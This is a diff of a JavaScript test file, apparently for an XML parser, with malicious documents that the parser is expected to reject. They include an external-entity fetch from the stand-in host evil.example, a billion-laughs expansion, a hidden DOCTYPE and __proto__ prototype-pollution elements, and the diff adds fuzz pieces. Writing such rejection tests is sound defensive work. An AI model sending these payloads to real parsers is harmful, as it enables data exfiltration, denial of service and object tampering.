@@ -24,14 +24,15 @@ describe('an XML document', () => {
       'a parameter entity',
       '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><response><a>b</a></response>',
     ],
-    [
-      'an external document type',
-      '<!DOCTYPE response SYSTEM "http://evil.example/a.dtd"><response><a>b</a></response>',
-    ],
     ['nested entities', `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]><response><a>&l9;</a></response>`],
     ['a document type in its root', '<response><!DOCTYPE r [<!ENTITY x "y">]><a>&x;</a></response>'],
+    [
+      'a document type between comments that hide it',
+      '<response b="<!--"/><!DOCTYPE r [<!ENTITY x "y">]><response c="-->"><a>&x;</a></response>',
+    ],
     ['two roots', '<response><a>1</a></response><response><a>2</a></response>'],
     ['a reserved element', '<response><__proto__><result>00</result></__proto__></response>'],
+    ['a reserved element with a prefix', '<response><a:__proto__><result>00</result></a:__proto__></response>'],
     ['a reserved element of functions', '<response><constructor><prototype>x</prototype></constructor></response>'],
     ['no end', '<response>'.repeat(10_000)],
   ])('an XML document with %s is rejected', (_what, xml) => {
@@ -73,6 +74,7 @@ describe('an XML document', () => {
     const name = fc.constantFrom('a', 'result', '__proto__', 'constructor', 'prototype', '#text', '@a', 'response');
     const piece = fc.oneof(
       name.map((one) => `<${one}>`),
+      name.map((one) => `<xmlns:${one} a:${one}="1">`),
       name.map((one) => `</${one}>`),
       name.map((one) => `<${one} ${one}="1"/>`),
       fc.constantFrom(
